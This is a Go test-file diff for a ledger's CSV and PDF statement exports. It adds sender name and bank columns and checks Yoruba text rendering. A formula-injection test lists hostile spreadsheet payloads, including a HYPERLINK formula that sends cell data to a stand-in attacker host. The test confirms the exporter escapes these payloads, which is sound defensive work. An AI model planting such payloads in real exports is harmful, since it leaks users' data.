@@ -28,7 +28,7 @@ var at = time.Date(2026, 1, 30, 23, 30, 0, 0, time.UTC) // in Lagos it is the ne
 func line(narration string) ledger.Line {
 	return ledger.Line{RunningBalance: money.Must("-1234567.50"), Entry: ledger.Entry{
 		ID: uuid.New(), Direction: ledger.Credit, Amount: money.Must("5000.00"), Fee: money.Must("25.00"), Currency: "NGN", Status: ledger.Provisional,
-		Narration: narration, ProviderTxnRef: "API-VACT_TRA-1", TransactionGroupID: uuid.New(), CreatedAt: at,
+		Narration: narration, ProviderTxnRef: "API-VACT_TRA-1", TransactionGroupID: uuid.New(), CreatedAt: at, SenderName: "Bọ́lá Adé", SenderBank: "GTBank",
 	}}
 }
 
@@ -47,6 +47,7 @@ func TestCSV(t *testing.T) {
 	credit, debit := line(`Ọláoyè said "thanks", twice`), line("")
 	ref, of := "AJO00000000000000000000000000000000", uuid.New()
 	debit.Entry.Direction, debit.Entry.TransferRef, debit.Entry.ReversalOf, debit.Entry.ProviderTxnRef = ledger.Debit, &ref, &of, ""
+	debit.Entry.SenderName, debit.Entry.SenderBank = "", ""
 	var b bytes.Buffer
 	require.NoError(t, CSV(&b, sequence(credit, debit)))
 	require.True(t, bytes.HasPrefix(b.Bytes(), []byte("\xEF\xBB\xBFtime,direction,amount,")), "Excel reads it as UTF-8")
@@ -54,14 +55,14 @@ func TestCSV(t *testing.T) {
 	rows, err := csv.NewReader(bytes.NewReader(b.Bytes()[3:])).ReadAll()
 	require.NoError(t, err)
 	require.Equal(t, [][]string{
-		{"time", "direction", "amount", "fee", "currency", "status", "narration", "providerTxnRef", "transferRef", "runningBalance", "entryId", "transactionGroupId", "reversalOf"},
+		{"time", "direction", "amount", "fee", "currency", "status", "narration", "providerTxnRef", "transferRef", "runningBalance", "entryId", "transactionGroupId", "reversalOf", "senderName", "senderBank"},
 		{
 			"2026-01-31T00:30:00+01:00", "credit", "5000.00", "25.00", "NGN", "provisional", `Ọláoyè said "thanks", twice`, "API-VACT_TRA-1", "", "-1234567.50",
-			credit.Entry.ID.String(), credit.Entry.TransactionGroupID.String(), "",
+			credit.Entry.ID.String(), credit.Entry.TransactionGroupID.String(), "", "Bọ́lá Adé", "GTBank",
 		},
 		{
 			"2026-01-31T00:30:00+01:00", "debit", "5000.00", "25.00", "NGN", "provisional", "", "", ref, "-1234567.50",
-			debit.Entry.ID.String(), debit.Entry.TransactionGroupID.String(), of.String(),
+			debit.Entry.ID.String(), debit.Entry.TransactionGroupID.String(), of.String(), "", "",
 		},
 	}, rows)
 }
@@ -73,12 +74,12 @@ func TestCSVHasNoFormulas(t *testing.T) {
 		`=HYPERLINK("https://evil.example?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00A0=1", "\u200B=1", "＝1", "＋1", "－1", "＠1",
 	} {
 		l := line(evil)
-		l.Entry.ProviderTxnRef = evil
+		l.Entry.ProviderTxnRef, l.Entry.SenderName, l.Entry.SenderBank = evil, evil, evil
 		var b bytes.Buffer
 		require.NoError(t, CSV(&b, sequence(l)))
 		rows, err := csv.NewReader(&b).ReadAll()
 		require.NoError(t, err)
-		for _, cell := range rows[1][6:8] {
+		for _, cell := range append(rows[1][6:8], rows[1][13:15]...) {
 			require.True(t, strings.HasPrefix(cell, "'"), "%q", cell)
 		}
 	}
@@ -148,7 +149,7 @@ func TestPDF(t *testing.T) {
 	text := strings.Join(read(t, s), "\n")
 	for _, want := range []string{
 		"Ṣadé & Ọmọ Stores", "Ọlábísí Ẹ̀kúndayọ̀ (customer-1)", "9012345678 Ajo Bank", "31 Jan 2026 00:30 to today", "Opening balance", "₦ 7.00", "Closing balance", "₦ 3,800.00",
-		"Money in", "₦ 5,000.00", "Money out", "₦ 1,200.00", "Owó ilé (provisional)", "Owó ilé Ìyá Àgbà (needs review)", "API-VACT_TRA-1", ref, "−1,234,567.50", "page 1 of 1",
+		"Money in", "₦ 5,000.00", "Money out", "₦ 1,200.00", "Bọ́lá Adé (GTBank) · Owó ilé (provisional)", "Bọ́lá Adé (GTBank) · Owó ilé Ìyá Àgbà", "(needs review)", "Fee (₦)\n", "\n25.00\n", "API-VACT_TRA-1", ref, "−1,234,567.50", "page 1 of 1",
 	} {
 		require.Contains(t, text, want)
 	}
